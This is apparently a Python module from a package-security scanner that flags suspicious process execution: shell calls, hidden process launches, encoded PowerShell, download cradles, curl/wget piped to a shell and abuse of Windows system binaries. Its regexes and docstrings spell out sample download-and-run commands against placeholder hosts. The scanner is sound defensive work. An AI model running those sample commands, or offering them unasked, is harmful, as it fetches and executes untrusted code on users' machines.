"""Process execution rules (DOU2xx): shells, spawned commands, hidden processes, LOLBins."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from douane.analysis.context import FileContext, PyContext, Words
from douane.analysis.interface import FileType, Hit, Tag, all_of, anchored
from douane.analysis.pyapi import (
    PROCESS_ANY,
    PROCESS_SHELL,
    SYSTEM_TRIGGER,
    matches,
    written_names,
)
from douane.analysis.registry import file_rule, node_rule
from douane.domain import Confidence, Family, Severity

# -- command text at execution sites (shared with the download, install-time and persistence
#    families: a command string matters when it reaches one of these calls) ------------------

HOLE = "\u2026"  # stands for a part of a command that is not a constant
_SHELL_EXECUTE = frozenset({"win32api.ShellExecute", "ctypes.windll.shell32.ShellExecuteW",
                            "ctypes.windll.shell32.ShellExecuteA", "win32api.WinExec",
                            "ctypes.windll.kernel32.WinExec"})  # fmt: skip
EXEC_CALLS = PROCESS_ANY | _SHELL_EXECUTE
# what a call is_exec_call resolves must write in code: rules that only look at such calls
# do not parse a file that names curl or nohup in its prose alone
EXEC_NAMES = written_names(EXEC_CALLS, prefer=("subprocess",))


def loose_str(node: ast.AST | None, ctx: PyContext, depth: int = 0) -> str | None:
    """The constant parts of a string expression, with non-constant parts as ``…``; None when
    nothing of it is constant. A command built from a variable URL is still a ``curl … | sh``."""
    if node is None or depth > 10:
        return None
    value = ctx.const_str(node)
    if value is not None:
        return value
    d = depth + 1
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = loose_str(node.left, ctx, d), loose_str(node.right, ctx, d)
        if left is None and right is None:
            return None
        return (left or HOLE) + (right or HOLE)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        return loose_str(node.left, ctx, d)
    if isinstance(node, ast.JoinedStr):
        parts = []
        for part in node.values:
            if isinstance(part, ast.Constant):
                parts.append(str(part.value))
            elif isinstance(part, ast.FormattedValue):
                parts.append(loose_str(part.value, ctx, d) or HOLE)
        text = "".join(parts)
        return text if text.strip(HOLE) else None
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        if node.func.attr in ("format", "strip", "encode", "decode", "lower"):
            return loose_str(node.func.value, ctx, d)
        if (
            node.func.attr == "join"
            and node.args
            and isinstance(node.args[0], ast.List | ast.Tuple)
        ):
            sep = ctx.const_str(node.func.value)
            if sep is not None:
                parts = [loose_str(e, ctx, d) or HOLE for e in node.args[0].elts]
                text = sep.join(parts)
                return text if text.strip(HOLE + " ") else None
    return None


def command_of(call: ast.Call, ctx: PyContext) -> str | None:
    """The command a process call runs, as text (list arguments joined by spaces)."""
    name = ctx.call_name(call) or ""
    if name in _SHELL_EXECUTE:  # ShellExecute(hwnd, op, file, params, dir, show)
        args = list(call.args[2:4])
    elif name.startswith(("os.exec", "os.spawn", "os.posix_spawn")):
        args = list(call.args)  # (mode,) path, argv...
    else:
        args = list(call.args[:1])
    for kw in call.keywords:
        if kw.arg == "args":
            args = [kw.value]
    parts: list[str] = []
    for arg in args:
        if isinstance(arg, ast.List | ast.Tuple):
            parts.extend(loose_str(e, ctx) or HOLE for e in arg.elts)
        else:
            parts.append(loose_str(arg, ctx) or HOLE)
    text = " ".join(parts)
    return text if text.strip(HOLE + " ") else None


def is_exec_call(name: str | None) -> bool:
    return matches(name, EXEC_CALLS)


# -- patterns over command text -------------------------------------------------------------

_PS = r"\b(?:powershell|pwsh)(?:\.exe)?\b"
PS_ENCODED = re.compile(
    _PS + r".*?(?:^|\s)[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc\w*)?\s+['\"]?[a-z0-9+/=]{16,}",
    re.IGNORECASE | re.DOTALL,
)
PS_CRADLE = re.compile(
    r"\b(?:iex|invoke-expression)\b.{0,200}?(?:downloadstring|downloaddata|invoke-webrequest|"
    r"\biwr\b|invoke-restmethod|\birm\b|net\.webclient)|(?:downloadstring|downloaddata|"
    r"invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|downloadfile|start-bitstransfer)"
    r".{0,300}?(?:\biex\b|invoke-expression|start-process|\bsaps\b|\.exe\b|&\s*\$)",
    re.IGNORECASE | re.DOTALL,
)
PS_HIDDEN = re.compile(_PS + r".*?\s[-/]w(?:i|in|ind|indo|indow|indows\w*)?\s+['\"]?h(?:idden|id|i)?\b",
                       re.IGNORECASE | re.DOTALL)  # fmt: skip
FETCH_TO_SHELL = re.compile(
    r"\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k)?sh\b"
    r"|\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?python[0-9.]*\b"
    r"|\b(?:ba|z)?sh\s+-c\s+['\"]?\$\((?:curl|wget)\b"
    r"|\b(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b"
    r"|\b(?:curl|wget)\b[^\n]{0,300}?(?:&&|;)\s*(?:sudo\s+)?chmod\s+(?:\+x|[0-7]*[157][0-7]{0,2}\b)"
    r"[^\n]{0,200}?(?:&&|;)\s*(?:\./|/tmp/|nohup\s|\$)",
    re.IGNORECASE,
)
_LOLBINS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("certutil download/decode", re.compile(r"\bcertutil(?:\.exe)?\b.*?[-/](?:urlcache|decode|decodehex)\b", re.I)),
    ("mshta running remote or inline script", re.compile(r"\bmshta(?:\.exe)?\b\s+['\"]?(?:https?:|vbscript:|javascript:)", re.I)),
    ("bitsadmin transfer", re.compile(r"\bbitsadmin(?:\.exe)?\b.*?/(?:transfer|addfile|download)\b", re.I)),
    ("rundll32 running script or remote content", re.compile(r"\brundll32(?:\.exe)?\b.*?(?:javascript:|url\.dll|https?://|\\\\)", re.I)),
    ("regsvr32 loading a remote scriptlet", re.compile(r"\bregsvr32(?:\.exe)?\b.*?/i:\s*['\"]?(?:https?:|\\\\)", re.I)),
    ("wmic process call create", re.compile(r"\bwmic(?:\.exe)?\b.*?\bprocess\s+call\s+create\b", re.I)),
    ("msiexec installing from a URL", re.compile(r"\bmsiexec(?:\.exe)?\b.*?/(?:i|package)\s+['\"]?https?://", re.I)),
)  # fmt: skip


def lolbin_in(text: str) -> str | None:
    """The name of a Windows living-off-the-land pattern in a command, if any."""
    for label, pattern in _LOLBINS:
        if pattern.search(text):
            return label
    return None


def _process_call(node: ast.Call, ctx: PyContext) -> tuple[str, str] | None:
    name = ctx.call_name(node)
    if not is_exec_call(name):
        return None
    text = command_of(node, ctx)
    return (name, text) if text else None  # type: ignore[return-value]


# -- rules -----------------------------------------------------------------------------------


@node_rule(
    "DOU201",
    "shell_command_execution",
    family=Family.PROCESS,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (SYSTEM_TRIGGER, b"popen", b"getoutput", b"pty.", b"import pty", b"from pty"),
            written_names(PROCESS_SHELL),
        ),
    ),
    tags=(Tag.EXECUTE,),
)
def shell_command_execution(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags calls that hand a string to a shell (`os.system`, `os.popen`,
    `subprocess.getoutput`, `pty.spawn`).

    Why it matters: a shell string can run anything, and droppers use it at install time to
    fetch and start a second stage. Many build scripts and CLIs also shell out, so on its own
    this is a capability (LOW), weighed by where it runs and what else the package does.

    Example: `os.system("curl -s https://x.example.invalid/p.sh | sh")` in `setup.py`.
    """
    name = ctx.call_name(node)
    if matches(name, PROCESS_SHELL):
        yield ctx.hit(node, f"`{name}` runs a command through the shell")


_SUBPROCESS_SHELL = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call",
                               "subprocess.check_output", "subprocess.Popen"})  # fmt: skip


@node_rule(
    "DOU202",
    "subprocess_shell_with_built_command",
    family=Family.PROCESS,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (b"shell=True", b"shell = True", b"create_subprocess_shell"),
            written_names(
                _SUBPROCESS_SHELL | {"asyncio.create_subprocess_shell"}, prefer=("subprocess",)
            ),
        ),
    ),
    tags=(Tag.EXECUTE,),
)
def subprocess_shell_with_built_command(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags `subprocess` calls with `shell=True` (and
    `asyncio.create_subprocess_shell`) whose command is built at run time rather than written
    out as one literal string.

    Why it matters: a shell command assembled from variables (a URL, a decoded string, a path
    under a temp folder) hides what runs from a reader and from scanners that look for
    literal commands. A literal `shell=True` command is everyday build-script code and is not
    flagged here; what such a command does is judged by the other DOU2xx rules.

    Example: `subprocess.Popen(cmd + " " + url, shell=True)`.
    """
    name = ctx.call_name(node)
    if name == "asyncio.create_subprocess_shell":
        shell = True
    elif name in _SUBPROCESS_SHELL:
        shell = any(
            kw.arg == "shell" and isinstance(kw.value, ast.Constant) and kw.value.value is True
            for kw in node.keywords
        )
    else:
        return
    if not shell:
        return
    arg = (
        node.args[0]
        if node.args
        else next((k.value for k in node.keywords if k.arg == "args"), None)
    )
    if arg is None or ctx.const_str(arg) is not None:
        return
    if isinstance(arg, ast.List | ast.Tuple) and all(
        ctx.const_str(e) is not None for e in arg.elts
    ):
        return
    yield ctx.hit(node, f"`{name}` runs a shell command assembled at run time (`shell=True`)")


_HIDE_FLAGS = {"CREATE_NO_WINDOW": "no console window", "DETACHED_PROCESS": "detached from the console",
               "SW_HIDE": "hidden window", "STARTF_USESHOWWINDOW": "window state forced"}  # fmt: skip
_HIDE_NUMBERS = {0x08000000: "no console window", 0x00000008: "detached from the console"}
_HIDDEN_COMMAND = re.compile(
    r"^\s*(?:\S*/)?nohup\b|\bstart\s+(?:\"\"\s+)?/b\b|\bpythonw(?:\.exe)?\b|\bwscript(?:\.exe)?\b.*\.vbs"
    r"|" + _PS + r".*?\s[-/]w(?:i|in|ind|indo|indow|indows\w*)?\s+['\"]?h(?:idden|id|i)?\b"
    r"|\s-(?:noni|noninteractive)\b.*\s-(?:nop|noprofile)\b",
    re.IGNORECASE,
)


def _hiding_of(node: ast.Call, ctx: PyContext) -> list[str]:
    found: list[str] = []
    for kw in node.keywords:
        if kw.arg not in ("creationflags", "startupinfo", "stdout", "stderr", "start_new_session"):
            continue
        for sub in ast.walk(kw.value):
            label = None
            if isinstance(sub, ast.Name | ast.Attribute):
                label = _HIDE_FLAGS.get(sub.id if isinstance(sub, ast.Name) else sub.attr)
            elif (
                kw.arg == "creationflags"
                and isinstance(sub, ast.Constant)
                and isinstance(sub.value, int)
            ):
                label = _HIDE_NUMBERS.get(sub.value)
            if label and label not in found:
                found.append(label)
    return found


@node_rule(
    "DOU203",
    "hidden_process_creation",
    family=Family.PROCESS,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (
                b"CREATE_NO_WINDOW",
                b"DETACHED_PROCESS",
                b"SW_HIDE",
                b"nohup",
                b"pythonw",
                b"/b ",
                b"/B ",
                b"0x08000000",
                b"0x8000000",
                b"134217728",
                b"indowStyle",
                b"indowstyle",
                b"-w h",
                b"-W h",
                b"-w H",
                b"-W H",
                b"STARTF_USESHOWWINDOW",
            ),
            EXEC_NAMES,
        ),
    ),  # fmt: skip
    tags=(Tag.EXECUTE, Tag.EVADE),
)
def hidden_process_creation(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags process launches that hide the new process from the user:
    `creationflags` with `CREATE_NO_WINDOW`/`DETACHED_PROCESS`, a `startupinfo` with `SW_HIDE`,
    or a command that starts with `nohup`, `start /b`, `pythonw`, `wscript x.vbs` or PowerShell
    `-WindowStyle Hidden`.

    Why it matters: droppers start their second stage invisibly so the user sees nothing
    while `pip install` runs. GUI apps also suppress console flashes on Windows, so one hiding
    technique is LOW; two at once (or PowerShell hidden windows) is MEDIUM.

    Example: `subprocess.Popen(["pythonw", p], creationflags=subprocess.CREATE_NO_WINDOW)`.
    """
    name = ctx.call_name(node)
    if not is_exec_call(name):
        return
    why = _hiding_of(node, ctx)
    text = command_of(node, ctx) or ""
    m = _HIDDEN_COMMAND.search(text)
    if m:
        why.append(f"`{' '.join(m.group(0).split())[:40]}`")
    if not why:
        return
    strong = len(why) > 1 or bool(PS_HIDDEN.search(text))
    yield ctx.hit(
        node,
        f"`{name}` starts a process hidden from the user ({', '.join(why)})",
        severity=Severity.MEDIUM if strong else None,
    )


@node_rule(
    "DOU204",
    "powershell_encoded_command",
    family=Family.PROCESS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(all_of((b"owershell", b"OWERSHELL", b"pwsh"), EXEC_NAMES),),
    tags=(Tag.EXECUTE, Tag.OBFUSCATED),
)
def powershell_encoded_command(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a process call whose command runs PowerShell with an encoded
    command (`-EncodedCommand`, `-enc`, `-e` and the other accepted abbreviations).

    Why it matters: an encoded command is base64 of UTF-16 script text; its only purpose in
    a package is to keep a reader (and scanners) from seeing what runs. Combined with a hidden
    window it is the usual shape of a Windows dropper started from `setup.py`.

    Example: `subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA...")`.
    """
    found = _process_call(node, ctx)
    if found and PS_ENCODED.search(found[1]):
        yield ctx.hit(node, f"`{found[0]}` runs PowerShell with a base64-encoded command")


@node_rule(
    "DOU205",
    "powershell_download_cradle",
    family=Family.PROCESS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (
                b"ownload",
                b"nvoke-",
                b"iex",
                b"IEX",
                b"iwr",
                anchored(rb"\birm\b", b"irm"),
                b"WebClient",
            ),
            EXEC_NAMES,
        ),
    ),
    tags=(Tag.EXECUTE, Tag.DOWNLOAD),
)
def powershell_download_cradle(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a process call whose command is a PowerShell download cradle:
    `IEX (New-Object Net.WebClient).DownloadString(...)`, `iwr ... | iex`,
    `Invoke-WebRequest -OutFile x.exe; Start-Process x.exe`.

    Why it matters: the cradle downloads and runs a second stage in one line, so the package
    itself holds nothing a scanner could see but this command.

    Example: `os.system("powershell -c \\"iex (iwr https://x.example.invalid/a.ps1)\\"")`.
    """
    found = _process_call(node, ctx)
    if found and PS_CRADLE.search(found[1]):
        yield ctx.hit(node, f"`{found[0]}` runs a PowerShell command that downloads and runs code")


@node_rule(
    "DOU206",
    "lolbin_command",
    family=Family.PROCESS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (
                b"certutil",
                b"mshta",
                b"bitsadmin",
                b"rundll32",
                b"regsvr32",
                b"wmic",
                b"msiexec",
                b"CERTUTIL",
                b"MSHTA",
                b"BITSADMIN",
                b"RUNDLL32",
                b"REGSVR32",
                b"WMIC",
                b"MSIEXEC",
            ),
            EXEC_NAMES,
        ),
    ),  # fmt: skip
    tags=(Tag.EXECUTE, Tag.EVADE),
)
def lolbin_command(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a process call whose command uses a Windows system binary in the
    way intruders do to download or run code: `certutil -urlcache`/`-decode`, `mshta http:`,
    `bitsadmin /transfer`, `rundll32 javascript:`/`url.dll`, `regsvr32 /i:http`,
    `wmic process call create`, `msiexec /i http://`.

    Why it matters: these "living off the land" binaries are signed by Microsoft, so using
    them avoids dropping a downloader of one's own. A Python package has no honest need for
    these forms.

    Example: `os.system("certutil -urlcache -split -f https://x.example.invalid/a.exe a.exe")`.
    """
    found = _process_call(node, ctx)
    label = lolbin_in(found[1]) if found else None
    if found and label:
        yield ctx.hit(node, f"`{found[0]}` runs a system binary to fetch or run code ({label})")


@node_rule(
    "DOU207",
    "fetch_piped_to_shell",
    family=Family.PROCESS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(all_of((b"curl", b"wget", b"CURL", b"WGET"), EXEC_NAMES),),
    tags=(Tag.EXECUTE, Tag.DOWNLOAD),
)
def fetch_piped_to_shell(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a process call whose command downloads with `curl`/`wget` and runs
    the result: piped into `sh`/`bash`/`python`, `sh -c "$(curl ...)"`, or saved, made
    executable with `chmod +x` and started.

    Why it matters: it is download-and-run in one command. The same text in help strings or
    a README is installation advice and is not flagged: only a command that reaches an
    execution call (`os.system`, `subprocess`, ...) counts.

    Example: `os.system("wget -qO- https://x.example.invalid/i.sh | bash")`.
    """
    found = _process_call(node, ctx)
    if found and FETCH_TO_SHELL.search(found[1]):
        yield ctx.hit(node, f"`{found[0]}` downloads a script with curl/wget and runs it")


# -- script files and Python that does not parse ------------------------------------------------

_SCRIPT_PATTERNS: tuple[tuple[re.Pattern[str], str, Severity], ...] = (
    (PS_ENCODED, "runs PowerShell with a base64-encoded command", Severity.HIGH),
    (PS_CRADLE, "downloads and runs code with a PowerShell cradle", Severity.HIGH),
    (FETCH_TO_SHELL, "downloads a script with curl/wget and runs it", Severity.LOW),
)  # fmt: skip


@file_rule(
    "DOU208",
    "script_file_download_and_run",
    family=Family.PROCESS,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    file_types=(FileType.SHELL, FileType.WINDOWS_SCRIPT),
    triggers=(
        b"curl",
        b"wget",
        b"owershell",
        b"OWERSHELL",
        b"pwsh",
        b"iex",
        b"IEX",
        b"certutil",
        b"mshta",
        b"bitsadmin",
        b"rundll32",
        b"regsvr32",
        b"CERTUTIL",
        b"MSHTA",
        b"BITSADMIN",
        b"ownload",
        b"nvoke-",
    ),  # fmt: skip
    tags=(Tag.EXECUTE, Tag.DOWNLOAD),
)
def script_file_download_and_run(ctx: FileContext) -> Iterator[Hit]:
    """What it does: flags shell, batch and PowerShell files shipped in a package that
    download and run code (`curl ... | sh`, PowerShell cradles or encoded commands, LOLBins
    such as `certutil -urlcache`).

    Why it matters: malware ships its stage-one as a `.bat`/`.ps1`/`.sh` file and starts it
    from `setup.py`. Developer scripts (`build-docs.sh`, CI helpers) legitimately pipe a
    known installer to a shell, which is why `curl | sh` alone is LOW while encoded
    PowerShell, download cradles and LOLBins are HIGH.

    Example: a `run.bat` holding `powershell -w hidden -enc SQBFAFgA...`.
    """
    seen: set[int] = set()
    for offset, line in _logical_lines(ctx.text):
        if line.lstrip().startswith(("#", "::", "REM ", "rem ")):
            continue
        for pattern, what, severity in _SCRIPT_PATTERNS:
            if pattern.search(line):
                if offset not in seen:
                    seen.add(offset)
                    yield ctx.hit_at(offset, f"script {what}", severity=severity)
                break
        else:
            label = lolbin_in(line)
            if label and offset not in seen:
                seen.add(offset)
                yield ctx.hit_at(offset, f"script runs a system binary to fetch or run code ({label})",
                                 severity=Severity.HIGH)  # fmt: skip


def _logical_lines(text: str) -> Iterator[tuple[int, str]]:
    """Lines with their offsets, joining backslash and caret continuations."""
    offset = 0
    start, buf = 0, ""
    for raw in text.splitlines(keepends=True):
        line = raw.rstrip("\r\n")
        if not buf:
            start = offset
        offset += len(raw)
        if line.endswith(("\\", "^", "`")):
            buf += line[:-1] + " "
            continue
        yield start, buf + line
        buf = ""
    if buf:
        yield start, buf


# a word each of FETCH_TO_SHELL, PS_ENCODED, PS_CRADLE and the LOLBin patterns needs, lower-case
_COMMAND_WORDS = Words((b"curl", b"wget", b"powershell", b"pwsh", b"downloadstring", b"downloaddata",
                        b"invoke-webrequest", b"invoke-restmethod", b"net.webclient", b"downloadfile",
                        b"start-bitstransfer", b"certutil", b"mshta", b"bitsadmin", b"rundll32",
                        b"regsvr32", b"wmic", b"msiexec"))  # fmt: skip
_SHORT_WORDS = (b"iwr", b"irm")  # as whole words (`confirm` is no PowerShell)
# what `re.IGNORECASE` also takes for an ASCII letter: İ ı ſ K
CASE_FOLDS = (b"\xc4\xb0", b"\xc4\xb1", b"\xc5\xbf", b"\xe2\x84\xaa")
_WORD_BYTES = frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789_")


def _may_fetch_or_lolbin(data: bytes) -> bool:
    """Whether a command string of ``data`` that opens a call (`os.system("…`, the only text
    DOU209 reads) can match the download-and-run or LOLBin patterns: they are
    case-insensitive, so it must spell one of their words in some case."""
    if not data.isascii() and any(c in data for c in CASE_FOLDS):
        return True
    low = data.lower()
    hits = [(i, i + len(w)) for i, w in _COMMAND_WORDS.finditer(low)]
    for word in _SHORT_WORDS:
        i = low.find(word)
        while i >= 0:
            end = i + len(word)
            if (i == 0 or low[i - 1] not in _WORD_BYTES) and (
                end == len(low) or low[end] not in _WORD_BYTES
            ):
                hits.append((i, end))
            i = low.find(word, end)
    return any(_in_call_string(data, start, end) for start, end in hits)


def _in_call_string(data: bytes, start: int, end: int) -> bool:
    """Bytes ``start:end`` may lie in the command _UNPARSED_SHELL captures: within 400
    characters after a quote on the same line (no quote between), the quote opening the
    argument of a call (`(`, blanks, an optional r/b/u/f prefix)."""
    line = data.rfind(b"\n", 0, start) + 1
    quote = max(data.rfind(b"'", line, start), data.rfind(b'"', line, start))
    if quote < 0 or end > quote + 401:
        return False
    k = quote - 1
    if k >= 0 and data[k] in b"rbuf":
        k -= 1
    while k >= 0 and data[k] in b" \t\r\n\f\v":
        k -= 1
    # `\s` of a str pattern also takes non-ASCII and \x1c-\x1f spaces: let those through
    return k >= 0 and (data[k] == 40 or data[k] >= 0x80 or 0x1C <= data[k] <= 0x1F)


_UNPARSED_SHELL = re.compile(
    r"\b(?:os\.system|os\.popen|subprocess\.\w+|Popen|call)\s*\(\s*[rbuf]?['\"]([^'\"\n]{4,400})",
)


@file_rule(
    "DOU209",
    "unparsed_python_shell_download",
    family=Family.PROCESS,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    file_types=(FileType.PYTHON,),
    only_unparsed=True,
    triggers=(SYSTEM_TRIGGER, b"popen", b"Popen", b"call"),
    tags=(Tag.EXECUTE, Tag.DOWNLOAD),
)
def unparsed_python_shell_download(ctx: FileContext) -> Iterator[Hit]:
    """What it does: in Python files that do not parse (Python 2, deliberately broken code),
    flags `os.system`/`os.popen`/`subprocess` calls whose literal command downloads and runs
    code (curl/wget piped to a shell, PowerShell cradles or encoded commands, LOLBins).

    Why it matters: the AST rules cannot see into a file Python 3 rejects, and old or
    careless droppers are often exactly that. pip still runs a Python 2 `setup.py` on a
    Python 2 interpreter.

    Example: `os.system("curl -s https://x.example.invalid/p | sh")` next to `print "done"`.
    """
    if not _may_fetch_or_lolbin(ctx.member.data):
        return
    for m in _UNPARSED_SHELL.finditer(ctx.text):
        cmd = m.group(1)
        if FETCH_TO_SHELL.search(cmd) or PS_ENCODED.search(cmd) or PS_CRADLE.search(cmd):
            yield ctx.hit_at(m.start(), "command in unparsable Python downloads and runs code")
        elif label := lolbin_in(cmd):
            yield ctx.hit_at(m.start(), f"command in unparsable Python uses {label}")
